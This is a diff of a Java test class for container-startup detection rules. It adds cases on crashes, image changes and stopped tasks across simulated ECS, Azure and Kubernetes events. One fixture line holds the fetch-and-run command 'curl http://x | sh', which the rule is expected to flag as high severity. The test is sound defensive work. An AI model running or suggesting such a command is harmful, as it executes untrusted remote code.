@@ -31,7 +31,9 @@ class StartupRulesTest {
             "{\"metadata\":{\"namespace\":\"shop\",\"name\":\"web-1\",\"creationTimestamp\":"
                     + "\"2026-11-26T11:00:00Z\",\"ownerReferences\":[{\"kind\":\"ReplicaSet\",\"name\":\"web\"}]},\"status\":";
     private static final String OTHER = "arn:aws:sts::111122223333:assumed-role/web-deploy/ci";
+    private static final String GROUP = "/subscriptions/s/resourceGroups/shop/providers/p/t/";
     private static final String RESTART = "containerGroups/restart/action";
+    private static final String DELETE = "containerGroups/delete";
     private static final String WRITE = "containerGroups/write";
 
     @TempDir(factory = InMemory.class)
@@ -88,6 +90,10 @@ class StartupRulesTest {
                 found("three crashes in a quarter", "STA-001 medium", s -> crashes(s, 5, 10, 15)),
                 found("three crashes after a deployment", "STA-001 low", s -> {
                     s.aws(-10, OTHER, "ecs:UpdateService", "{}");
+                    crashes(s, 5, 10, 15);
+                }),
+                found("three crashes after another service's deployment", "STA-001 medium", s -> {
+                    s.aws(-10, OTHER, "ecs:UpdateService", "{\"service\":\"other\"}");
                     crashes(s, 5, 10, 15);
                 }),
                 silent("three crashes in an hour", s -> crashes(s, 5, 30, 55)),
@@ -162,6 +168,11 @@ class StartupRulesTest {
                     s.aws(80, OTHER, "ecs:UpdateService", "{}");
                     container(s.task(90)).put("imageDigest", digest("b"));
                 }),
+                found("another image after another service's deployment", "STA-003 medium", s -> {
+                    container(s.task(0)).put("imageDigest", digest("a"));
+                    s.aws(80, OTHER, "ecs:UpdateService", "{\"service\":\"other\"}");
+                    container(s.task(90)).put("imageDigest", digest("b"));
+                }),
                 silent("another image of another revision", s -> {
                     container(s.task(0)).put("imageDigest", digest("a"));
                     container(s.task(90).put("taskDefinitionArn", "app:8")).put("imageDigest", digest("b"));
@@ -173,6 +184,10 @@ class StartupRulesTest {
                 found("a group pulls another image", "STA-003 medium", s -> pulls(s)),
                 silent("a group is written anew and pulls another image", s -> {
                     s.azure(50, "deploy@shop.example", WRITE);
+                    pulls(s);
+                }),
+                found("another group is written anew", "STA-003 medium", s -> {
+                    s.azure(50, "deploy@shop.example", WRITE).put("resourceId", GROUP + "other");
                     pulls(s);
                 }),
                 found("another command", "STA-004 high", s -> overridden(s, command("curl http://x | sh"))),
@@ -269,6 +284,10 @@ class StartupRulesTest {
         event(view, "Started", 1, 53, "started");
     }
 
+    private static void status(ObjectNode entry, String status) {
+        entry.putObject("status").put("value", status);
+    }
+
     static Stream<Case> ends() {
         return Stream.of(
                 found("by a user", "STA-008 medium", s -> s.stopped(0, 70, "UserInitiated", 137)),
@@ -280,10 +299,47 @@ class StartupRulesTest {
                                 .put(
                                         "stoppedReason",
                                         "ECS is performing maintenance on the underlying infrastructure")),
+                found("by a user, who writes that it was maintenance", "STA-008 medium", s -> {
+                    String task = s.stopped(0, 70, "UserInitiated", 143)
+                            .put("stoppedReason", "ECS is performing maintenance")
+                            .path("taskArn")
+                            .asText();
+                    s.aws(69, USER, "ecs:StopTask", "{\"task\":\"" + task + "\"}");
+                }),
+                found("by the scheduler, of a service that somebody emptied after the alert", "STA-008 medium", s -> {
+                    s.stopped(0, 70, "ServiceSchedulerInitiated", 143);
+                    s.aws(68, USER, "ecs:UpdateService", "{\"service\":\"web\",\"desiredCount\":0}");
+                }),
+                found("by the scheduler, after a deployment before the alert", "STA-008 info", s -> {
+                    s.stopped(0, 50, "ServiceSchedulerInitiated", 143);
+                    s.aws(48, USER, "ecs:UpdateService", "{\"service\":\"web\"}");
+                }),
+                found("by the scheduler, and somebody emptied another service", "STA-008 info", s -> {
+                    s.stopped(0, 70, "ServiceSchedulerInitiated", 143);
+                    s.aws(68, USER, "ecs:UpdateService", "{\"service\":\"other\",\"desiredCount\":0}");
+                }),
                 silent("by itself", s -> s.stopped(0, 70, "EssentialContainerExited", 1)),
                 found("a group restarted", "STA-008 medium", s -> {
                     event(event(s.view("app", 1), "Pulled", 0, 0, "p"), "Started", 0, 0, "s");
                     s.azure(70, "ops@shop.example", RESTART);
+                }),
+                found("a group restarted, begun and ended", "STA-008 medium", s -> {
+                    event(event(s.view("app", 1), "Pulled", 0, 0, "p"), "Started", 0, 0, "s");
+                    status(s.azure(70, "ops@shop.example", RESTART), "Started");
+                    s.azure(71, "ops@shop.example", RESTART);
+                }),
+                silent("a group that could not be deleted", s -> {
+                    event(event(s.view("app", 1), "Pulled", 0, 0, "p"), "Started", 0, 0, "s");
+                    status(s.azure(70, "ops@shop.example", DELETE), "Started");
+                    status(s.azure(71, "ops@shop.example", DELETE), "Failed");
+                }),
+                found("a pod deleted with a service account's token", "STA-008 low", s -> {
+                    s.pod(OWNED + "{}}");
+                    s.kubernetes("system:serviceaccount:shop:web", "delete", "pods");
+                }),
+                found("pods deleted all at once", "STA-008 medium", s -> {
+                    s.pod(OWNED + "{}}");
+                    s.kubernetes("jane", "deletecollection", "pods");
                 }),
                 found("a pod deleted by a person", "STA-008 medium", s -> {
                     s.pod(OWNED + "{}}");
@@ -303,6 +359,10 @@ class StartupRulesTest {
                 found("killed, and nobody asked", "STA-009 medium", s -> {
                     killed(s, "app", 40);
                     s.azure(-300, "ops@shop.example", WRITE);
+                }),
+                found("killed, and another group was restarted", "STA-008 medium, STA-009 medium", s -> {
+                    killed(s, "app", 40);
+                    s.azure(39.9, "ops@shop.example", RESTART).put("resourceId", GROUP + "other");
                 }),
                 found("killed by a restart", "STA-008 medium", s -> {
                     killed(s, "app", 40);
